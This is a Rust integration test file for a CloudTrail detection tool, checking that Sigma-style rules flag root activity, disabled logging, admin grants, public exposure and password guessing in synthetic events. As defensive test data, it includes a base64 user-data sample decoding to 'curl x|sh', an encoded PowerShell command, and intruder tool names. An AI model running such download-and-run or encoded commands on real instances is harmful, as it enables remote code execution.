//! `trailhound detect` as a script sees it, with the rules of `tests/sigma_rules`, which are our own.
#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use assert_cmd::Command;
use serde_json::{Value, json};
use std::path::Path;
use tempfile::TempDir;

const RULES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/sigma_rules");

/// What a run left.
struct Outcome {
    code: Option<i32>,
    out: String,
    err: String,
}

impl Outcome {
    /// The lines of `jsonl`.
    fn rows(&self) -> Vec<Value> {
        self.out
            .lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect()
    }
}

fn run(words: &[&str]) -> Outcome {
    let mut command = Command::new(assert_cmd::cargo::cargo_bin!("trailhound"));
    command
        .env_remove("NO_COLOR")
        .env("TRAILHOUND_CONFIG_DIR", "/nonexistent")
        .env("AWS_CONFIG_FILE", "/nonexistent")
        .env("AWS_SHARED_CREDENTIALS_FILE", "/nonexistent");
    let output = command.args(words).output().unwrap();
    Outcome {
        code: output.status.code(),
        out: String::from_utf8(output.stdout).unwrap(),
        err: String::from_utf8(output.stderr).unwrap(),
    }
}

/// An event at a second of the day, whose ID has that number.
fn event(second: u32, source: &str, name: &str, own: &Value) -> Value {
    let (minute, rest) = (second / 60, second % 60);
    let mut event = json!({
        "eventVersion": "1.11", "eventTime": format!("2026-03-17T{:02}:{:02}:{rest:02}Z", 10 + minute / 60, minute % 60),
        "eventSource": format!("{source}.amazonaws.com"), "eventName": name, "awsRegion": "us-east-1",
        "userIdentity": {"type": "IAMUser", "userName": "alice", "arn": "arn:aws:iam::111122223333:user/alice"},
        "sourceIPAddress": "203.0.113.9", "userAgent": "aws-cli/2.15", "eventType": "AwsApiCall",
        "eventID": format!("00000000-0000-4000-8000-{second:012}"), "recipientAccountId": "111122223333",
    });
    for (key, value) in own.as_object().unwrap() {
        event[key] = value.clone();
    }
    event
}

fn trail(events: &[Value]) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    let text = json!({ "Records": events }).to_string();
    std::fs::write(folder.path().join("trail.json"), text).unwrap();
    folder
}

fn written(folder: &Path, files: &[(&str, &str)]) {
    for (name, text) in files {
        let path = folder.join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
}

/// For each title, the seconds of the events that completed its hits.
fn hits(outcome: &Outcome, title: &str) -> Vec<u64> {
    let rows = outcome.rows();
    let of_title = rows.iter().filter(|row| row["rule_title"] == title);
    of_title.map(|row| number(&row["event_id"])).collect()
}

fn number(id: &Value) -> u64 {
    id.as_str().unwrap().rsplit('-').next().unwrap().parse().unwrap()
}

#[test]
#[expect(clippy::too_many_lines, reason = "a table of events")]
fn each_of_our_rules_finds_what_it_is_about_and_not_what_is_nearly_that() {
    let ingress = |cidr: &str, port: u16| json!({"requestParameters": {"ipPermissions": {"items": [{"fromPort": port, "ipRanges": {"items": [{"cidrIp": cidr}]}}]}}});
    let request = |value: Value| json!({ "requestParameters": value });
    // What is encoded: "#!/bin/sh\ncurl x|sh" and "#!/bin/sh\nyum update".
    let (curl, yum) = ("IyEvYmluL3NoCmN1cmwgeHxzaA==", "IyEvYmluL3NoCnl1bSB1cGRhdGU=");
    let key_of = |user: &str| json!({"responseElements": {"accessKey": {"userName": user}}});
    let cases: Vec<(&str, &str, &str, Value, bool)> = vec![
        (
            "The root user did something",
            "iam",
            "ListUsers",
            json!({"userIdentity": {"type": "Root"}}),
            true,
        ),
        (
            "The root user did something",
            "iam",
            "ListUsers",
            json!({"userIdentity": {"type": "Root", "invokedBy": "x"}}),
            false,
        ),
        (
            "A trail was stopped or blinded",
            "cloudtrail",
            "StopLogging",
            json!({}),
            true,
        ),
        (
            "A trail was stopped or blinded",
            "cloudtrail",
            "StopLogging",
            json!({"errorCode": "AccessDenied"}),
            false,
        ),
        (
            "A trail was stopped or blinded",
            "cloudtrail",
            "StartLogging",
            json!({}),
            false,
        ),
        (
            "An access key was made for somebody else",
            "iam",
            "CreateAccessKey",
            key_of("bob"),
            true,
        ),
        (
            "An access key was made for somebody else",
            "iam",
            "CreateAccessKey",
            key_of("alice"),
            false,
        ),
        (
            "Administrator rights were given",
            "iam",
            "AttachRolePolicy",
            request(json!({"policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})),
            true,
        ),
        (
            "Administrator rights were given",
            "iam",
            "AttachRolePolicy",
            request(json!({"policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"})),
            false,
        ),
        (
            "Administrator rights were given",
            "iam",
            "PutUserPolicy",
            request(json!({"policyDocument": "{\"Effect\":\"Allow\",\"Action\":\"*\"}"})),
            true,
        ),
        (
            "Administrator rights were given",
            "iam",
            "PutUserPolicy",
            request(json!({"policyDocument": "{\"Effect\":\"Allow\",\"Action\":\"s3:*\"}"})),
            false,
        ),
        (
            "A security group was opened to the world",
            "ec2",
            "AuthorizeSecurityGroupIngress",
            ingress("0.0.0.0/0", 22),
            true,
        ),
        (
            "A security group was opened to the world",
            "ec2",
            "AuthorizeSecurityGroupIngress",
            ingress("0.0.0.0/0", 443),
            false,
        ),
        (
            "A security group was opened to the world",
            "ec2",
            "AuthorizeSecurityGroupIngress",
            ingress("10.0.0.0/8", 22),
            false,
        ),
        (
            "A snapshot was shared with everybody",
            "ec2",
            "ModifySnapshotAttribute",
            request(json!({"createVolumePermission": {"add": {"items": [{"group": "all"}]}}})),
            true,
        ),
        (
            "A snapshot was shared with everybody",
            "ec2",
            "ModifySnapshotAttribute",
            request(json!({"createVolumePermission": {"add": {"items": [{"userId": "1"}]}}})),
            false,
        ),
        (
            "A tool of intruders was named",
            "sts",
            "GetCallerIdentity",
            json!({"userAgent": "Boto3 os/linux#6.1-KALI"}),
            true,
        ),
        (
            "A tool of intruders was named",
            "sts",
            "GetCallerIdentity",
            request(json!({"name": ["x-Pacu-y"]})),
            true,
        ),
        (
            "A tool of intruders was named",
            "sts",
            "GetCallerIdentity",
            json!({}),
            false,
        ),
        (
            "A large answer left a bucket",
            "s3",
            "GetObject",
            json!({"additionalEventData": {"bytesTransferredOut": 1e9}}),
            true,
        ),
        (
            "A large answer left a bucket",
            "s3",
            "GetObject",
            json!({"additionalEventData": {"bytesTransferredOut": 1000}}),
            false,
        ),
        (
            "A large answer left a bucket",
            "s3",
            "GetObject",
            json!({"additionalEventData": {"bytesTransferredOut": 1e9}, "sourceIPAddress": "10.2.3.4"}),
            false,
        ),
        (
            "User data that downloads and runs",
            "ec2",
            "RunInstances",
            request(json!({"userData": curl})),
            true,
        ),
        (
            "User data that downloads and runs",
            "ec2",
            "RunInstances",
            request(json!({"userData": yum})),
            false,
        ),
        (
            "An encoded command was sent to an instance",
            "ssm",
            "SendCommand",
            request(json!({"parameters": {"commands": ["ls", "powershell /enc AAAA"]}})),
            true,
        ),
        (
            "An encoded command was sent to an instance",
            "ssm",
            "SendCommand",
            request(json!({"parameters": {"commands": ["powershell encode"]}})),
            false,
        ),
    ];
    // What serves a correlation is not reported by itself, so no login is among these.
    let events: Vec<_> = (0..)
        .zip(&cases)
        .map(|(number, (_, source, name, own, _))| event(number, source, name, own))
        .collect();
    let folder = trail(&events);
    let outcome = run(&[
        "detect",
        "--no-builtin",
        "--rules",
        RULES,
        "--hits",
        "--format",
        "jsonl",
        folder.path().to_str().unwrap(),
    ]);
    assert_eq!(outcome.code, Some(0), "{}", outcome.err);
    assert!(
        !outcome.err.contains("error") && !outcome.err.contains("warning"),
        "{}",
        outcome.err
    );
    for (second, (title, _, name, own, fires)) in (0u64..).zip(&cases) {
        assert_eq!(
            hits(&outcome, title).contains(&second),
            *fires,
            "{title}: {name} {own}"
        );
    }
}

#[test]
#[expect(clippy::too_many_lines, reason = "a table of events")]
fn correlations_find_what_belongs_together_and_name_the_events() {
    let failed = |second, ip: &str| {
        event(
            second,
            "signin",
            "ConsoleLogin",
            &json!({
                "sourceIPAddress": ip, "errorMessage": "Failed authentication", "responseElements": {"ConsoleLogin": "Failure"},
            }),
        )
    };
    let login = |second, ip: &str| {
        event(
            second,
            "signin",
            "ConsoleLogin",
            &json!({
                "sourceIPAddress": ip, "responseElements": {"ConsoleLogin": "Success"},
            }),
        )
    };
    let events = [
        failed(0, "198.51.100.1"),
        failed(60, "198.51.100.1"),
        failed(120, "198.51.100.1"),
        failed(130, "198.51.100.2"),
        failed(140, "198.51.100.2"),
        login(300, "198.51.100.1"),
        login(310, "198.51.100.2"),
        event(
            4000,
            "iam",
            "CreateAccessKey",
            &json!({"responseElements": {"accessKey": {"userName": "bob"}}}),
        ),
        event(
            8000,
            "iam",
            "AttachUserPolicy",
            &json!({"requestParameters": {
            "userName": "bob", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}}),
        ),
        event(
            8001,
            "iam",
            "AttachUserPolicy",
            &json!({"requestParameters": {
            "userName": "carol", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}}),
        ),
        event(9000, "iam", "ListUsers", &json!({})),
        event(9001, "iam", "ListRoles", &json!({})),
        event(9002, "iam", "ListRoles", &json!({})),
        event(9003, "s3", "ListBuckets", &json!({})),
        event(9004, "sts", "GetCallerIdentity", &json!({})),
        event(9900, "sts", "GetCallerIdentity", &json!({})),
    ];
    let folder = trail(&events);
    let path = folder.path().to_str().unwrap();
    let outcome = run(&[
        "detect",
        "--no-builtin",
        "--rules",
        RULES,
        "--hits",
        "--format",
        "jsonl",
        path,
    ]);
    let rows = outcome.rows();
    let of = |title: &str| -> Vec<(Vec<u64>, Value)> {
        let rows = rows.iter().filter(|row| row["rule_title"] == title);
        let ids = |row: &Value| row["event_ids"].as_array().unwrap().iter().map(number).collect();
        rows.map(|row| (ids(row), row["group"].clone())).collect()
    };
    assert_eq!(
        of("A password was guessed"),
        [(vec![0, 60, 120, 300], json!(["sourceIPAddress=198.51.100.1"]))]
    );
    assert_eq!(
        of("A new key was given administrator rights"),
        [(vec![4000, 8000], json!(["user=bob"]))]
    );
    assert_eq!(
        of("Many different things were looked at"),
        [(
            vec![9000, 9001, 9002, 9003, 9004],
            json!(["userIdentity.arn=arn:aws:iam::111122223333:user/alice"])
        )]
    );
    // What only serves correlations is no finding of its own; what one generates is.
    for title in ["Many logins failed", "A login failed", "Something was looked at"] {
        assert!(of(title).is_empty(), "{title}");
    }
    assert_eq!(hits(&outcome, "Administrator rights were given"), [8000, 8001]);
    let row = rows
        .iter()
        .find(|row| row["rule_title"] == "A password was guessed")
        .unwrap();
    assert_eq!(row["level"], "critical");
    assert_eq!(row["event_id"], "00000000-0000-4000-8000-000000000300");
    assert_eq!(row["event_time"], "2026-03-17T10:05:00Z");
    assert_eq!(row["rule_id"], "7b0c2b1e-51f4-4a39-9f0c-6a1f3f6a0013");

    let found = run(&[
        "detect",
        "--no-builtin",
        "--rules",
        RULES,
        "--format",
        "csv",
        path,
    ]);
    let first: Vec<_> = found
        .out
        .lines()
        .skip(1)
        .map(|line| line.split("\",\"").nth(2).unwrap_or_default())
        .collect();
    let order = ["critical", "high", "medium", "low", "informational"];
    assert!(
        first.is_sorted_by_key(|level| order.iter().position(|it| it == level)),
        "{}",
        found.out
    );
    assert!(found.err.contains("hits of 5 of 13 rules: "), "{}", found.err);

    let severe = run(&[
        "detect",
        "--no-builtin",
        "--rules",
        RULES,
        "--level",
        "critical",
        "--hits",
        "--format",
        "jsonl",
        path,
    ]);
    assert_eq!(
        severe.rows().len(),
        2,
        "what they are about is looked for and not reported: {}",
        severe.out
    );
}

#[test]
fn a_broken_rule_is_told_with_its_place_and_the_others_run() {
    let folder = trail(&[event(0, "iam", "CreateUser", &json!({}))]);
    let head = "logsource: {product: aws, service: cloudtrail}\n";
    written(
        folder.path(),
        &[
            (
                "rules/good.yml",
                &format!(
                    "title: Good\nlevel: low\n{head}detection: {{s: {{eventName: CreateUser}}, condition: s}}\n"
                ),
            ),
            (
                "rules/deep/er/bad.yaml",
                &format!(
                    "title: \"Bad \\e[31m\"\n{head}detection:\n  s:\n    eventName|nonsense: x\n  condition: s\n"
                ),
            ),
            (
                "rules/odd.yml",
                &format!("title: Odd\n{head}detection: {{s: {{eventName: CreateUzer}}, condition: s}}\n"),
            ),
            ("rules/win.yml", "title: Win\nlogsource: {product: windows}\n"),
            ("rules/README.md", "no: [yaml"),
        ],
    );
    let rules = folder.path().join("rules");
    let (rules, path) = (rules.to_str().unwrap(), folder.path().join("trail.json"));
    let outcome = run(&["detect", "--no-builtin", "--rules", rules, path.to_str().unwrap()]);
    assert_eq!(outcome.code, Some(2), "{}", outcome.err);
    assert!(outcome.out.contains("Good"), "{}", outcome.out);
    let says = |text: &str| assert!(outcome.err.contains(text), "{text}: {}", outcome.err);
    says("rules/deep/er/bad.yaml:5:5: Bad \u{241b}[31m: unknown modifier `nonsense`");
    says(
        "rules/odd.yml:3:13: Odd: AWS is not known to write an event called `CreateUzer`; did you mean `CreateUser`?",
    );
    says("not for CloudTrail: Win (for windows)");
    says("1 hit of 1 of 2 rules: 1 finding of 1 event, 0.00% less to read, in 1 event in 1 file");
    assert!(!outcome.err.contains('\u{1b}') && !outcome.out.contains('\u{1b}'));
}

#[test]
fn how_it_ends_says_what_came_of_it() {
    let folder = trail(&[event(0, "iam", "ListUsers", &json!({}))]);
    let path = folder.path().join("trail.json");
    let path = path.to_str().unwrap();
    let root = format!("{RULES}/root_used.yml");
    for (words, code, said) in [
        (vec!["detect", "--no-builtin", path], 2, "no rules: --no-builtin"),
        (vec!["detect", "--rules", "/nonexistent", path], 2, "/nonexistent"),
        (
            vec!["detect", "--no-builtin", "--rules", &root, path],
            1,
            "0 hits of 0 of 1 rule: 0 findings of 0 events",
        ),
        (
            vec![
                "detect",
                "--no-builtin",
                "--rules",
                &root,
                "--level",
                "critical",
                path,
            ],
            2,
            "no rule to look for",
        ),
        (
            vec![
                "detect",
                "--no-builtin",
                "--rules",
                &root,
                "--level",
                "grave",
                path,
            ],
            2,
            "invalid value",
        ),
        (
            vec!["detect", "--no-builtin", "--rules", &root, "/nonexistent/x.json"],
            3,
            "/nonexistent/x.json",
        ),
    ] {
        let outcome = run(&words);
        assert_eq!(outcome.code, Some(code), "{words:?}: {}", outcome.err);
        assert!(outcome.err.contains(said), "{words:?}: {}", outcome.err);
    }
}

#[test]
fn windows_limits_and_formats_are_those_of_other_commands() {
    let events: Vec<_> = (0..10)
        .map(|second| {
            event(
                second * 60,
                "iam",
                "ListUsers",
                &json!({"userIdentity": {"type": "Root"}}),
            )
        })
        .collect();
    let folder = trail(&events);
    let path = folder.path().to_str().unwrap();
    let rules = format!("{RULES}/root_used.yml");
    let detect = |more: &[&str]| run(&[&["detect", "--no-builtin", "--rules", &rules, path], more].concat());
    let limited = detect(&["--hits", "--format", "jsonl", "--limit", "3"]);
    assert_eq!(limited.rows().len(), 3);
    assert!(limited.err.contains("the first 3 of 10 hits"), "{}", limited.err);
    let within = detect(&[
        "--hits",
        "--format",
        "jsonl",
        "--since",
        "2026-03-17T10:05Z",
        "--until",
        "2026-03-17T10:07Z",
    ]);
    assert_eq!(hits(&within, "The root user did something"), [300, 360]);
    for format in ["table", "md", "csv", "json", "jsonl"] {
        for hits in [&["--hits"][..], &[]] {
            let outcome = detect(&[&["--format", format], hits].concat());
            assert_eq!(outcome.code, Some(0), "{format}: {}", outcome.err);
            assert!(
                outcome.out.contains("The root user did something"),
                "{format}: {}",
                outcome.out
            );
            assert!(outcome.out.contains("high"), "{format}: {}", outcome.out);
        }
    }
}

/// A real attack simulation of others, where this machine has it. Counted by a script in Python over the parsed events.
#[test]
fn on_a_real_simulation_the_counts_are_those_counted_by_other_means() {
    let Some(corpus) = std::env::var_os("TRAILHOUND_CORPUS") else {
        return;
    };
    let path = Path::new(&corpus).join("invictus");
    let words = [
        "detect",
        "--no-builtin",
        "--rules",
        RULES,
        "--hits",
        "--format",
        "jsonl",
    ];
    let outcome = run(&[&words[..], &[path.to_str().unwrap()]].concat());
    let hits_of = |title: &str| {
        let rows = outcome.rows();
        rows.iter().filter(|row| row["rule_title"] == title).count()
    };
    for (title, expected) in [
        ("A trail was stopped or blinded", 4),
        ("Administrator rights were given", 7),
        ("An access key was made for somebody else", 2),
        ("A tool of intruders was named", 1146),
        ("A new key was given administrator rights", 1),
        ("The root user did something", 0),
    ] {
        assert_eq!(hits_of(title), expected, "{title}: {}", outcome.err);
    }
}
